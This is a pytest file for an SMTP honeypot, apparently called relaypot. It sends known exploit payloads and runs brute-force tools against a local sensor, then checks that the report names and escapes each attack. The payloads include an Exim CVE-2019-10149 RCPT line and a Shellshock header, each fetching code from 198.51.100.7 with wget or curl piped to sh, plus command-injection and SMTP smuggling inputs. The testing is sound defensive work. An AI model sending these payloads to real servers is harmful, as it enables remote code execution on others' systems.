@@ -1,0 +1,111 @@
+"""Attacks from outside, end to end: public exploit conversations over real sockets and real tools
+(swaks, nmap's smtp scripts, hydra, medusa) against a running sensor; the report's Attacks section
+names each, with what was sent, escaped for the terminal and the page."""
+
+from __future__ import annotations
+
+import json
+import smtplib
+import socket
+import subprocess
+
+import pytest
+
+from support import relaypot, require
+
+pytestmark = pytest.mark.slow  # nmap, hydra and medusa take their time
+
+EXPLOITER = "127.0.0.21"
+SMUGGLER = "127.0.0.22"
+MAILER = "127.0.0.23"
+# CVE-2019-10149 as in Qualys' advisory, with a terminal escape inside the payload: the report
+# must show it, harmlessly.
+EXIM_RCPT = "RCPT TO:<${run{\\x2Fbin\\x2Fsh\\t-c\\t\\x22wget\\x20http://198.51.100.7/x\x1b[2J\\x22}}@localhost>"
+
+
+def talk(address: tuple[str, int], source: str, lines: list[bytes]) -> bytes:
+    """Send each line after reading the reply to the one before, as the PoCs do."""
+    with socket.create_connection(address, timeout=10, source_address=(source, 0)) as sock:
+        sock.settimeout(5)
+        got = sock.recv(4096)
+        for line in lines:
+            sock.sendall(line)
+            try:
+                got += sock.recv(65536)
+            except TimeoutError:
+                pass
+        return got
+
+
+@pytest.fixture(scope="module")
+def attacked(tmp_path_factory):
+    from support import RunningSensor
+
+    base = tmp_path_factory.mktemp("attacked")
+    sensor = RunningSensor(base / "data", smtp__persona="postfix", limits__max_connections_per_ip=64)
+    address = sensor.address
+    try:
+        talk(address, EXPLOITER, [b"EHLO x\r\n", b"MAIL FROM:<>\r\n", EXIM_RCPT.encode() + b"\r\n", b"QUIT\r\n"])
+        talk(address, EXPLOITER, [b"HELO x\r\n", b"MAIL FROM:<;sleep 66;>\r\n", b"QUIT\r\n"])
+        talk(address, SMUGGLER, [b"EHLO x\r\n", b"MAIL FROM:<a@example.org>\r\n", b"RCPT TO:<b@example.com>\r\n",
+                                 b"DATA\r\n", b"Subject: s\r\n\r\nx\n.\nMAIL FROM:<admin@example.com>\r\n.\r\n",
+                                 b"QUIT\r\n"])
+        with smtplib.SMTP(*address, timeout=10, source_address=(MAILER, 0)) as smtp:
+            smtp.sendmail("a@example.org", ["b@example.com"],
+                          "Subject: () { :; }; /bin/bash -c 'curl http://198.51.100.7/s|sh'\r\n\r\nhi\r\n")
+        host, port = sensor.host, str(sensor.port)
+        run = {"capture_output": True, "text": True, "timeout": 180}
+        swaks = subprocess.run([require("swaks"), "--server", host, "--port", port, "--to", "b@example.com",
+                                "--from", "a@example.org"], **run)
+        assert swaks.returncode == 0, swaks.stdout + swaks.stderr
+        nmap = subprocess.run([require("nmap"), "-n", "-Pn", "-sV", "-p", port, "--script",
+                               "smtp-commands,smtp-enum-users,smtp-open-relay", host], **run)
+        assert nmap.returncode == 0, nmap.stderr
+        words = base / "passwords.txt"
+        words.write_text("123456\npassword\nletmein\n")
+        hydra = subprocess.run([require("hydra"), "-l", "admin", "-P", str(words), "-s", port, "-t", "1", host,
+                                "smtp"], **run)
+        assert "1 of 1 target completed" in hydra.stdout, hydra.stdout + hydra.stderr
+        medusa = subprocess.run([require("medusa"), "-h", host, "-n", port, "-u", "admin", "-P", str(words),
+                                 "-M", "smtp"], **run)
+        # medusa 2.2 tries SSLv3 on a STARTTLS the server offers, which OpenSSL 3 refuses: it gives up
+        # after its EHLO, which is what names it.
+        assert "Medusa v2" in medusa.stdout, medusa.stdout + medusa.stderr
+        sensor.wait_for("smtp.attack", 8, timeout=30)
+    finally:
+        sensor.stop()
+    return sensor
+
+
+def test_the_report_names_each_attack_and_what_was_sent(attacked):
+    result = relaypot("report", "--format", "json", "--data-dir", str(attacked.data_dir))
+    assert result.returncode == 0, result.stderr
+    report = json.loads(result.stdout)
+    named = {a["attack"]: a for a in report["attacks"]["attacks"]}
+    for attack in ("exim-cve-2019-10149", "opensmtpd-cve-2020-7247", "smtp-smuggling", "pipelined-transaction",
+                   "shellshock", "tool-swaks", "tool-nmap", "tool-hydra", "tool-medusa", "relay-address-tricks"):
+        assert attack in named, (attack, sorted(named))
+    exim = named["exim-cve-2019-10149"]
+    assert exim["class"] == "exploit" and exim["cves"] == ["CVE-2019-10149"] and exim["sources"] == 1
+    assert "\x1b[2J" in exim["excerpts"][0]["text"] and exim["excerpts"][0]["place"] == "rcpt"
+    assert report["attacks"]["attacks"][0]["class"] == "exploit"  # exploits first
+    activity = {s["src_ip"]: s["activity"] for s in report["sources"]}
+    assert activity[EXPLOITER] == "exploit" and activity[SMUGGLER] == "smuggling"
+    kinds = [h["kind"] for h in report["highlights"]]
+    assert "attack" in kinds
+    assert any("CVE-2019-10149" in h["text"] for h in report["highlights"])
+
+
+def test_the_terminal_and_the_page_show_the_attacks_escaped(attacked, tmp_path):
+    text = relaypot("report", "--data-dir", str(attacked.data_dir))
+    assert text.returncode == 0, text.stderr
+    section = text.stdout.split("\nAttacks\n")[1].split("\nActivity per")[0]
+    assert "exim-cve-2019-10149" in section and "CVE-2019-10149" in section and "tool-hydra" in section
+    assert "\x1b" not in text.stdout and "\\x1b[2J" in section  # the escape is shown, not obeyed
+    page = tmp_path / "report.html"
+    html = relaypot("report", "--html", str(page), "--data-dir", str(attacked.data_dir))
+    assert html.returncode == 0, html.stderr
+    body = page.read_text()
+    attacks = body.split('<section id="attacks">')[1].split("</section>")[0]
+    assert "Exim &#x27;Return of the WIZard&#x27;" in attacks or "Exim 'Return of the WIZard'" in attacks
+    assert "\x1b" not in body and "${run{" in attacks
